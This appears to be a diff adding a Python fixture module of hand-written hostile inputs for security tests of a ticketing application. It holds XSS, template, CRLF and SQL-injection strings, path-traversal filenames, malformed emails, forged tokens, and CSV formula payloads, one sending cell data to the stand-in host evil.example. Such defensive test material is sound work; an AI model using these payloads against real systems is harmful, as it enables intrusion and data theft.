@@ -1,0 +1,155 @@
+"""Hostile inputs, written by hand in small families, crossed with the fields they target.
+
+`TEXT` payloads go into every free-text sink (forms, API, mail, macros, tags, search,
+survey comments). `FILENAMES`, `MIME`, `TOKENS` and `CSV` are specific to one kind of
+input each. `CASES` is what test_hostile_inputs parametrizes over.
+"""
+
+from __future__ import annotations
+
+TEXT: dict[str, list[str]] = {
+    "script": [
+        "<script>alert(1)</script>",
+        '"><script>alert(1)</script>',
+        "</textarea><script>alert(1)</script>",
+    ],
+    "handler": [
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        '" onmouseover="alert(1)" x="',
+    ],
+    "jslink": [
+        "javascript:alert(1)",
+        '<a href="javascript:alert(1)">click</a>',
+        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    ],
+    "markup": [
+        "<svg><script>alert(1)</script></svg>",
+        '<!--<img src="--><img src=x onerror=alert(1)//">',
+        "{{ request.user.password }}{% debug %}${7*7}",
+    ],
+    "crlf": [
+        "Hello\r\nBcc: victim@evil.example",
+        "Hello\r\n\r\n<script>alert(1)</script>",
+        "x\nSet-Cookie: session=evil",
+    ],
+    "sql": [
+        "' OR '1'='1",
+        "'; DROP TABLE tickets_ticket; --",
+        "1; SELECT pg_sleep(5)--",
+    ],
+    "unicode": [
+        "invoice\u202etxt.exe",
+        "nul\x00inside",
+        "zero\u200bwidth\ufeffbom \u2067isolate\u2069",
+    ],
+    "overlong": [
+        "S" * 256,
+        "B" * 100_001,
+        "word " * 20_000,
+    ],
+}
+
+# Where a text payload goes. Each is implemented in test_hostile_inputs.SINKS.
+TEXT_SINKS = [
+    "public_subject",
+    "public_description",
+    "portal_reply",
+    "agent_reply",
+    "api_ticket",
+    "api_message",
+    "mail",
+    "survey_comment",
+    "macro",
+    "tags",
+    "search",
+]
+
+FILENAMES = [
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "....//....//x.txt",
+    "<img src=x onerror=alert(1)>.png",
+    '"><script>alert(1)</script>.txt',
+    "invoice\u202efdp.exe",
+    "nul\x00.txt",
+    "a" * 300 + ".txt",
+    ".htaccess",
+    "page.html",
+    "image.svg",
+    "setup.exe.",
+    "😀 report.txt",
+    "CON",
+    "a\r\nContent-Type: text/html.txt",
+    "%2e%2e%2fetc%2fpasswd",
+    "=cmd|' /C calc'!A0.csv",
+]
+
+_HEAD = "From: Casey <{email}>\r\nTo: support@attune.localhost\r\nMessage-ID: <{mid}@x>\r\n"
+MIME: dict[str, str] = {
+    "no-headers": "just a body\r\n",
+    "no-from": "Subject: hi\r\nMessage-ID: <nofrom@x>\r\n\r\nbody",
+    "bad-from": "From: <<<>>>\r\nSubject: hi\r\n\r\nbody",
+    "from-crlf-name": 'From: "Casey\r\nBcc: v@evil.example" <{email}>\r\nSubject: x\r\n\r\nbody',
+    "broken-boundary": _HEAD + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nno end',
+    "missing-boundary": _HEAD + "Content-Type: multipart/mixed\r\n\r\n--x\r\nbody\r\n--x--",
+    "bad-base64": _HEAD + "Content-Transfer-Encoding: base64\r\n\r\n!!!not base64$$$",
+    "bad-qp": _HEAD + "Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=",
+    "unknown-charset": _HEAD + "Content-Type: text/plain; charset=x-klingon\r\n\r\nqapla",
+    "encoded-word-crlf": _HEAD + "Subject: =?utf-8?q?a=0D=0ABcc=3A_v=40evil.example?=\r\n\r\nx",
+    "html-only": _HEAD + "Content-Type: text/html\r\n\r\n<script>alert(1)</script><b>hi</b>",
+    "svg-attachment": _HEAD
+    + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
+    + 'hi\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename="'
+    + '../../x.svg"\r\n\r\n<svg onload=alert(1)/>\r\n--b--\r\n',
+    "deep-nesting": _HEAD
+    + "".join(
+        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(60)
+    )
+    + "Content-Type: text/plain\r\n\r\ndeep\r\n",
+    "long-header": _HEAD + "Subject: " + "x" * 20_000 + "\r\n\r\nbody",
+    "forged-reply-token": "From: Robin <{other}>\r\nTo: support+t{ticket}.0000000000000000@attune"
+    ".localhost\r\nMessage-ID: <forged@x>\r\nSubject: Re: yours\r\n\r\nI am not the requester.",
+    "eight-bit-headers": _HEAD + "Subject: caf\xe9 \xff\xfe\r\n\r\n\xff\xfe body",
+}
+
+TOKENS: dict[str, tuple[str, str]] = {
+    # name: (kind, value); kinds are implemented in test_hostile_inputs.TOKEN_SENDERS
+    "survey-empty-ish": ("survey", "x"),
+    "survey-huge": ("survey", "A" * 5000),
+    "survey-traversal": ("survey", "..%2F..%2Fetc%2Fpasswd"),
+    "survey-other-salt": ("survey", "PORTAL"),
+    "survey-bad-rating": ("survey", "RATING99"),
+    "survey-string-id": ("survey", "STRINGID"),
+    "portal-garbage": ("portal", "eyJjIjoxfQ:garbage:sig"),
+    "portal-huge": ("portal", "B" * 5000),
+    "portal-survey-token": ("portal", "SURVEY"),
+    "api-token-garbage": ("api", "Token not-a-real-token"),
+    "api-bearer": ("api", "Bearer abc.def.ghi"),
+    "api-token-huge": ("api", "Token " + "C" * 10_000),
+    "api-token-nul": ("api", "Token abc\x00def"),
+    "api-basic": ("api", "Basic Zm9vOmJhcg=="),
+    "api-revoked": ("api", "REVOKED"),
+    "inbound-secret-wrong": ("inbound", "inbound-test-secreT"),
+    "inbound-secret-prefix": ("inbound", "inbound-test-secret\x00"),
+    "inbound-secret-unicode": ("inbound", "inbound-test-secrét"),
+}
+
+CSV = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|'/C notepad'!A0",
+    "|calc",
+    "%0A=1+1",
+]
+
+TEXT_PAYLOADS = [
+    (f"{family}-{i}", text) for family, items in TEXT.items() for i, text in enumerate(items)
+]
+CASES = [(sink, pid, text) for sink in TEXT_SINKS for pid, text in TEXT_PAYLOADS]
+CORPUS_SIZE = len(CASES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
